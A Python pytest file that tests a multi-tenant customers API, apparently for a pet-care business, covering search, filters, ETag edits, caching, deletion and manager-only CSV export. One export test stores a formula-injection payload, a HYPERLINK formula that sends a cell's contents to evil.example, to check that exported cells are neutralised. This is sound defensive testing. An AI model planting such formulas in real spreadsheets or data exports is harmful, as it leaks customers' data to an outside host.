"""Customers API: create, search, filter, edit with ETags, cache, delete/deactivate, export."""
import json
from datetime import UTC, datetime, timedelta

import pytest

from app.models import Role
from tests.conftest import BACKEND, web_login

JANE = {"first_name": "Jane", "last_name": "Doe", "email": "Jane@Example.com", "phone": "(555) 123-4567",
        "tags": ["VIP"], "preferred_contact": "SMS", "notes": "Gate code 1234"}


def _create(client, fx, **overrides):
    r = client.post("/api/v1/customers", headers=fx.headers(Role.STAFF), json={**JANE, **overrides})
    assert r.status_code == 201, r.json
    return r.json


def _pet(client, fx, customer_id, **fields):
    body = {"name": "Rex", "species": "DOG", **fields}
    r = client.post(f"/api/v1/customers/{customer_id}/pets", headers=fx.headers(Role.STAFF), json=body)
    assert r.status_code == 201, r.json
    return r.json


def _search(client, fx, q, **params):
    r = client.get("/api/v1/customers", headers=fx.headers(Role.STAFF), query_string={"q": q, **params})
    assert r.status_code == 200, r.json
    return [c["last_name"] for c in r.json]


def test_a_customer_is_stored_normalised(client, tenant_a):
    c = _create(client, tenant_a)
    assert c["email"] == "jane@example.com" and c["phone"] == "+15551234567" and c["tags"] == ["vip"]


def test_duplicate_email_is_409_naming_the_existing_customer_but_fine_in_another_tenant(client, tenant_a, tenant_b):
    first = _create(client, tenant_a)
    r = client.post("/api/v1/customers", headers=tenant_a.headers(), json={**JANE, "first_name": "Other",
                                                                           "email": "JANE@example.com"})
    assert r.status_code == 409 and "Jane Doe" in r.json["message"] and r.json["existing_id"] == first["id"]
    assert r.json["errors"]["email"] == ["Already used by Jane Doe."]
    _create(client, tenant_b)


def test_bad_input_is_422_naming_each_field_and_nothing_is_saved(client, tenant_a):
    r = client.post("/api/v1/customers", headers=tenant_a.headers(),
                    json={"first_name": "", "last_name": "X", "email": "nope", "phone": "12",
                          "preferred_contact": "PIGEON", "notes": "x" * 1_000_001})
    assert r.status_code == 422
    errors = r.json["errors"]
    assert {"first_name", "preferred_contact", "notes", "email", "phone"} <= set(errors)
    r = client.post("/api/v1/customers", headers=tenant_a.headers(), json={"first_name": "A", "last_name": "B",
                                                                           "email": "nope", "phone": "12"})
    # Reported by the schema with every other field (the service normalises with the same functions).
    assert r.status_code == 422 and {"email", "phone"} <= set(r.json["errors"])
    assert client.get("/api/v1/customers", headers=tenant_a.headers()).json == []


def test_search_by_name_in_any_order_prefix_case_and_accents(client, tenant_a):
    _create(client, tenant_a, first_name="Zoë", last_name="Éclair", email=None, phone=None)
    _create(client, tenant_a, first_name="John", last_name="Smith", email=None, phone=None)
    assert _search(client, tenant_a, "zoe") == ["Éclair"]
    assert _search(client, tenant_a, "ECL zo") == ["Éclair"]
    assert _search(client, tenant_a, "smi jo") == ["Smith"]
    assert _search(client, tenant_a, "mith") == []  # word prefixes, not substrings


def test_search_by_email_and_by_phone_in_any_format(client, tenant_a):
    _create(client, tenant_a)
    for q in ("jane@exa", "555-123-4567", "(555) 123", "5551234567", "+1 555 123 4567", "1234567"):
        assert _search(client, tenant_a, q) == ["Doe"], q


def test_search_by_pet_name(client, tenant_a):
    c = _create(client, tenant_a)
    _pet(client, tenant_a, c["id"], name="Biscuit")
    assert _search(client, tenant_a, "bisc") == ["Doe"]


def test_search_forgives_punctuation_in_names(client, tenant_a, tenant_b):
    _create(client, tenant_a, first_name="Seán", last_name="O'Brien", email=None, phone=None)
    _create(client, tenant_a, first_name="Ann", last_name="Smith-Jones", email=None, phone=None)
    _create(client, tenant_b, first_name="Pat", last_name="O'Brien", email=None, phone=None)
    for q in ("obrien", "O'Brien", "o’brien", "brien", "obr", "sean obrien"):
        assert _search(client, tenant_a, q) == ["O'Brien"], q
    for q in ("smithjones", "jones", "smith-jones", "smith jones"):
        assert _search(client, tenant_a, q) == ["Smith-Jones"], q
    assert _search(client, tenant_a, "'") == [] and _search(client, tenant_a, "o'connor") == []
    assert [c["first_name"] for c in client.get("/api/v1/customers", headers=tenant_b.headers(),
                                                query_string={"q": "obrien"}).json] == ["Pat"]


def test_search_forgives_umlauts_spelled_out_or_dropped(client, tenant_a, tenant_b):
    _create(client, tenant_a, first_name="Jürgen", last_name="Müller", email=None, phone=None)
    _create(client, tenant_a, first_name="Hans", last_name="Großmann", email=None, phone=None)
    _create(client, tenant_b, first_name="Uli", last_name="Müller", email=None, phone=None)
    for q in ("mueller", "muller", "Müller", "MUELLER", "juergen mueller", "jurgen"):
        assert _search(client, tenant_a, q) == ["Müller"], q
    for q in ("grossmann", "großmann", "gross"):
        assert _search(client, tenant_a, q) == ["Großmann"], q
    assert [c["first_name"] for c in client.get("/api/v1/customers", headers=tenant_b.headers(),
                                                query_string={"q": "mueller"}).json] == ["Uli"]


def test_search_by_a_pets_forgiving_name_says_which_pets_matched(client, tenant_a, tenant_b):
    c = _create(client, tenant_a)
    biscuit = _pet(client, tenant_a, c["id"], name="Biscuit")
    _pet(client, tenant_a, c["id"], name="Rex")
    bjork = _pet(client, tenant_a, c["id"], name="Björk")
    other = _create(client, tenant_b)
    _pet(client, tenant_b, other["id"], name="Biscuit")
    for q, expected in (("bisc", [biscuit["id"]]), ("bjoerk", [bjork["id"]]), ("doe", []), ("555", [])):
        r = client.get("/api/v1/customers", headers=tenant_a.headers(), query_string={"q": q})
        assert [row["matched_pets"] for row in r.json] == [expected], q
    r = client.get("/api/v1/customers", headers=tenant_b.headers(), query_string={"q": "bisc"})
    assert [p["id"] for p in r.json[0]["pets"]] == r.json[0]["matched_pets"] != [biscuit["id"]]


def test_search_never_crosses_tenants(client, tenant_a, tenant_b):
    _create(client, tenant_a)
    assert _search(client, tenant_b, "jane") == []
    assert _search(client, tenant_b, "555") == []


def test_filters_by_tag_species_active_and_expired_vaccinations(client, tenant_a):
    dog_owner = _create(client, tenant_a)
    cat_owner = _create(client, tenant_a, first_name="Cat", last_name="Person", email="cat@x.example", tags=[],
                        phone=None)
    _pet(client, tenant_a, cat_owner["id"], name="Tom", species="CAT")
    pet = _pet(client, tenant_a, dog_owner["id"])
    client.post(f"/api/v1/pets/{pet['id']}/vaccinations", headers=tenant_a.headers(),
                json={"vaccine": "Rabies", "given_on": "2020-01-01", "expires_on": "2021-01-01"})
    assert _search(client, tenant_a, "", tag="vip") == ["Doe"]
    assert _search(client, tenant_a, "", species="CAT") == ["Person"]
    assert _search(client, tenant_a, "", has_expired_vaccinations="true") == ["Doe"]
    assert _search(client, tenant_a, "", has_expired_vaccinations="false") == ["Person"]
    etag = client.get(f"/api/v1/customers/{cat_owner['id']}", headers=tenant_a.headers()).headers["ETag"]
    client.patch(f"/api/v1/customers/{cat_owner['id']}", headers=tenant_a.headers(**{"If-Match": etag}),
                 json={"active": False})
    assert _search(client, tenant_a, "", active="true") == ["Doe"]


def _vaccinate(client, fx, pet_id, vaccine, given_on, expires_on):
    r = client.post(f"/api/v1/pets/{pet_id}/vaccinations", headers=fx.headers(),
                    json={"vaccine": vaccine, "given_on": str(given_on), "expires_on": str(expires_on)})
    assert r.status_code == 201, r.json


def test_the_expired_filter_counts_only_each_vaccines_latest_record_and_stays_in_its_tenant(client, tenant_a,
                                                                                             tenant_b):
    today = datetime.now(UTC).date()  # the test tenants' timezone
    lapsed, renewed = (today - timedelta(days=800), today - timedelta(days=435)), (today - timedelta(days=30),
                                                                                   today + timedelta(days=335))
    households = {}
    for fx in (tenant_a, tenant_b):
        booster = _pet(client, fx, _create(client, fx, last_name="Boosted", email=None, phone=None)["id"])
        _vaccinate(client, fx, booster["id"], "Rabies", *lapsed)
        _vaccinate(client, fx, booster["id"], "Rabies", *renewed)  # the old Rabies no longer counts
        two = _create(client, fx, last_name="Twopets", email=None, phone=None)
        _vaccinate(client, fx, _pet(client, fx, two["id"], name="Fine")["id"], "Rabies", *renewed)
        _vaccinate(client, fx, _pet(client, fx, two["id"], name="Late")["id"], "Rabies", *lapsed)
        other = _pet(client, fx, _create(client, fx, last_name="Othervaccine", email=None, phone=None)["id"])
        _vaccinate(client, fx, other["id"], "Rabies", *renewed)  # a current Rabies does not renew DHPP
        _vaccinate(client, fx, other["id"], "DHPP", *lapsed)
        households[fx.subdomain] = {c["last_name"]: c["id"] for c in client.get(
            "/api/v1/customers", headers=fx.headers()).json}
    for fx, mine in ((tenant_a, households["alpha-paws"]), (tenant_b, households["bravo-barks"])):
        r = client.get("/api/v1/customers", headers=fx.headers(), query_string={"has_expired_vaccinations": "true"})
        assert {c["id"] for c in r.json} == {mine["Twopets"], mine["Othervaccine"]}
        r = client.get("/api/v1/customers", headers=fx.headers(), query_string={"has_expired_vaccinations": "false"})
        assert [c["id"] for c in r.json] == [mine["Boosted"]]


def test_sorting_and_pagination(client, tenant_a):
    for name in ("Cole", "Abbot", "Baker"):
        _create(client, tenant_a, last_name=name, email=f"{name}@x.example", phone=None)
    r = client.get("/api/v1/customers?page_size=2&sort=-name", headers=tenant_a.headers())
    assert [c["last_name"] for c in r.json] == ["Cole", "Baker"]
    assert json.loads(r.headers["X-Pagination"])["total"] == 3


def test_unknown_filters_and_sorts_are_refused(client, tenant_a):
    assert client.get("/api/v1/customers?sort=phone", headers=tenant_a.headers()).status_code == 422
    assert client.get("/api/v1/customers?colour=red", headers=tenant_a.headers()).status_code == 422


def test_update_needs_if_match_and_refuses_stale(client, tenant_a):
    c = _create(client, tenant_a)
    path = f"/api/v1/customers/{c['id']}"
    etag = client.get(path, headers=tenant_a.headers()).headers["ETag"]
    assert client.patch(path, headers=tenant_a.headers(), json={"notes": "x"}).status_code == 428
    ok = client.patch(path, headers=tenant_a.headers(**{"If-Match": etag}), json={"phone": "555.987.6543"})
    assert ok.status_code == 200 and ok.json["phone"] == "+15559876543"
    assert client.patch(path, headers=tenant_a.headers(**{"If-Match": etag}), json={"notes": "y"}).status_code == 412


def test_a_write_then_a_read_never_shows_stale_data(client, tenant_a):
    c = _create(client, tenant_a)
    path = f"/api/v1/customers/{c['id']}"
    etag = client.get(path, headers=tenant_a.headers()).headers["ETag"]  # now cached
    client.patch(path, headers=tenant_a.headers(**{"If-Match": etag}), json={"notes": "New note"})
    assert client.get(path, headers=tenant_a.headers()).json["notes"] == "New note"
    pet = _pet(client, tenant_a, c["id"], name="Fido")
    assert [p["name"] for p in client.get(path, headers=tenant_a.headers()).json["pets"]] == ["Fido"]
    client.post(f"/api/v1/pets/{pet['id']}/vaccinations", headers=tenant_a.headers(),
                json={"vaccine": "DHPP", "given_on": "2026-01-01", "expires_on": "2027-01-01"})
    pets = client.get(path, headers=tenant_a.headers()).json["pets"]
    assert [v["vaccine"] for v in pets[0]["vaccinations"]] == ["DHPP"]


def test_a_warm_detail_read_runs_no_sql(client, tenant_a, tenant_b, count_queries):
    c = _create(client, tenant_a)
    _pet(client, tenant_a, c["id"])
    client.get(f"/api/v1/customers/{c['id']}", headers=tenant_a.headers())  # warms the cache
    with count_queries() as counter:
        r = client.get(f"/api/v1/customers/{c['id']}", headers=tenant_a.headers())
    assert r.status_code == 200 and r.json["id"] == c["id"]
    assert counter.count == 0, counter.statements  # tenant, key and detail all from the cache
    assert client.get(f"/api/v1/customers/{c['id']}", headers=tenant_b.headers()).status_code == 404


@pytest.mark.skipif(BACKEND != "postgres", reason="counts round trips to Redis, which the embedded default has not")
def test_a_warm_detail_read_makes_four_redis_round_trips(client, tenant_a, tenant_b, count_redis_trips):
    c = _create(client, tenant_a)
    path = f"/api/v1/customers/{c['id']}"
    client.get(path, headers=tenant_a.headers())  # warms the cache
    with count_redis_trips() as trips:
        r = client.get(path, headers=tenant_a.headers())
    assert r.status_code == 200 and r.json["id"] == c["id"]
    # Tenant + key (one MGET), the limit's count (GET+TTL), the detail (MGET), the hit (count and TTL back).
    assert len(trips) == 4, trips
    assert int(r.headers["X-RateLimit-Remaining"]) < int(r.headers["X-RateLimit-Limit"])
    assert client.get(path, headers=tenant_b.headers()).status_code == 404


def test_the_list_count_stops_past_the_page_and_says_so(app, client, tenant_a, tenant_b, monkeypatch):
    """Households only grow: the count stops COUNT_BEYOND rows past the page, and the page says "at least"."""
    from app.services import customers
    from app.web import customers as pages

    for i in range(6):
        _create(client, tenant_a, email=f"a{i}@x.example", phone=None, last_name=f"Jane{i}")
        _create(client, tenant_b, email=f"b{i}@x.example", phone=None, last_name=f"Jane{i}")
    monkeypatch.setattr(customers, "COUNT_BEYOND", 2)
    for query in ("", "&q=jane"):
        r = client.get(f"/api/v1/customers?page_size=1{query}", headers=tenant_a.headers())
        assert json.loads(r.headers["X-Pagination"])["total"] == 3  # 1 x 1 + 2: "at least 3"
        assert len(client.get(f"/api/v1/customers?page_size=10{query}", headers=tenant_a.headers()).json) == 6
    monkeypatch.setattr(pages, "PAGE_SIZE", 1)
    web_login(client, tenant_a, Role.STAFF)
    html = client.get("/customers?q=jane", base_url=tenant_a.base_url).get_data(as_text=True)
    assert "At least 3 customers" in html
    monkeypatch.setattr(customers, "COUNT_BEYOND", 1000)
    assert "At least" not in client.get("/customers?q=jane", base_url=tenant_a.base_url).get_data(as_text=True)


def test_the_cache_is_per_tenant(client, tenant_a, tenant_b):
    c = _create(client, tenant_a)
    client.get(f"/api/v1/customers/{c['id']}", headers=tenant_a.headers())  # cached for A
    assert client.get(f"/api/v1/customers/{c['id']}", headers=tenant_b.headers()).status_code == 404


def test_the_list_is_a_constant_number_of_queries(client, tenant_a, count_queries):
    client.get("/api/v1/me", headers=tenant_a.headers())
    c = _create(client, tenant_a)
    _pet(client, tenant_a, c["id"])
    with count_queries() as few:
        client.get("/api/v1/customers", headers=tenant_a.headers())
    for i in range(8):
        other = _create(client, tenant_a, email=f"c{i}@x.example", phone=None, last_name=f"L{i}")
        _pet(client, tenant_a, other["id"], name=f"P{i}")
        _pet(client, tenant_a, other["id"], name=f"Q{i}")
    with count_queries() as many:
        assert len(client.get("/api/v1/customers?q=jane", headers=tenant_a.headers()).json) == 9
    assert few.count == many.count


def test_a_customer_without_history_is_deleted_with_its_pets(client, tenant_a):
    c = _create(client, tenant_a)
    pet = _pet(client, tenant_a, c["id"])
    path = f"/api/v1/customers/{c['id']}"
    etag = client.get(path, headers=tenant_a.headers()).headers["ETag"]
    assert client.delete(path, headers=tenant_a.headers(**{"If-Match": etag})).status_code == 204
    assert client.get(path, headers=tenant_a.headers()).status_code == 404
    assert client.get(f"/api/v1/pets/{pet['id']}", headers=tenant_a.headers()).status_code == 404


def test_export_is_for_managers_and_holds_only_this_tenant(client, tenant_a, tenant_b):
    _create(client, tenant_a)
    _create(client, tenant_b, last_name="Bravo")
    assert client.get("/api/v1/customers/export", headers=tenant_a.headers(Role.STAFF)).status_code == 403
    r = client.get("/api/v1/customers/export", headers=tenant_a.headers(Role.MANAGER))
    assert r.status_code == 200 and r.mimetype == "text/csv"
    text = r.get_data(as_text=True)
    assert "Doe" in text and "Bravo" not in text


def test_export_streams_with_formula_cells_neutralised_and_only_this_tenant(client, tenant_a, tenant_b,
                                                                           monkeypatch):
    from app.services import customer_csv

    monkeypatch.setattr(customer_csv, "EXPORT_CHUNK_ROWS", 1)
    _create(client, tenant_a, first_name='=HYPERLINK("http://evil.example/?x="&A2,"Click")', email=None,
            phone="+44 20 7946 0000")
    _create(client, tenant_a, first_name="Plain", email=None, phone=None)
    _create(client, tenant_b, last_name="Bravo", first_name="=Bravo")
    r = client.get("/api/v1/customers/export", headers=tenant_a.headers(Role.MANAGER), buffered=False)
    assert r.status_code == 200
    chunks = [chunk for chunk in r.response if chunk]  # one piece per row: the body was never built whole
    assert len(chunks) == 2
    text = b"".join(chunks).decode()
    assert "\"'=HYPERLINK(\"\"http://evil.example" in text and ",'+442079460000," in text
    assert "Bravo" not in text


def test_customer_writes_are_audited_with_contact_details_masked(client, tenant_a):
    c = _create(client, tenant_a)
    path = f"/api/v1/customers/{c['id']}"
    etag = client.get(path, headers=tenant_a.headers()).headers["ETag"]
    client.patch(path, headers=tenant_a.headers(**{"If-Match": etag}), json={"phone": "555 222 3333", "city": "Denver"})
    event = client.get("/api/v1/audit-events?action=customer.updated", headers=tenant_a.headers()).json[0]
    assert event["changes"]["phone"]["new"] == "***" and event["changes"]["city"]["new"] == "Denver"


def test_text_no_database_can_store_is_a_422_naming_the_field(client, tenant_a):
    for bad in ("nul\x00byte", "lone \udc85 surrogate"):
        r = client.post("/api/v1/customers", headers=tenant_a.headers(), data=json.dumps(
            {"first_name": "Jo", "last_name": bad}, ensure_ascii=True), content_type="application/json")
        assert r.status_code == 422 and "last_name" in r.json["errors"]
    assert client.get("/api/v1/customers", headers=tenant_a.headers()).json == []


def test_an_absurd_page_number_is_a_422_not_a_crash(client, tenant_a):
    r = client.get("/api/v1/customers?page=3702460840445934592", headers=tenant_a.headers())
    assert r.status_code == 422 and "page" in r.json["errors"]


def test_a_household_with_history_is_deactivated_not_deleted(client, tenant_a):
    from app.services import customers as customer_service

    c = _create(client, tenant_a)
    pet = _pet(client, tenant_a, c["id"])
    customer_service.HISTORY_CHECKS.append(lambda customer_id: str(customer_id) == c["id"])  # e.g. a booking
    try:
        path = f"/api/v1/customers/{c['id']}"
        r = client.delete(path, headers=tenant_a.headers(**{"If-Match": "*"}))
        assert r.status_code == 409 and "active" in r.json["errors"]
        r = client.delete(f"/api/v1/pets/{pet['id']}", headers=tenant_a.headers(**{"If-Match": "*"}))
        assert r.status_code == 409
        assert client.get(path, headers=tenant_a.headers()).json["pets"][0]["name"] == "Rex"
    finally:
        customer_service.HISTORY_CHECKS.pop()


def test_search_reads_at_most_eight_distinct_words_and_ignores_the_rest(app, client, tenant_a, tenant_b,
                                                                        count_queries):
    _create(client, tenant_a, first_name="Zoe", last_name="Eclair", email=None, phone=None)
    _create(client, tenant_b, first_name="Zoe", last_name="Eclair", email=None, phone=None)
    assert app.config["SEARCH_MAX_WORDS"] == 8
    pasted = " ".join(["zoe", "eclair"] * 950)  # 1,900 words, two distinct
    assert _search(client, tenant_a, pasted) == ["Eclair"]
    essay = " ".join(["zoe"] + [f"word{i}" for i in range(1899)])
    with count_queries() as n:
        r = client.get("/api/v1/customers", headers=tenant_a.headers(), query_string={"q": essay})
    assert r.status_code == 200 and r.json == []  # words 2-8 are read (and match nothing); the rest ignored
    search = [s for s in n.statements if "search_text" in s and "customers" in s]
    assert search and max(s.upper().count(" LIKE ") for s in search) == 8
    assert _search(client, tenant_a, "zoe z zo eclair e ec ecl ecla ninth-word-ignored") == ["Eclair"]
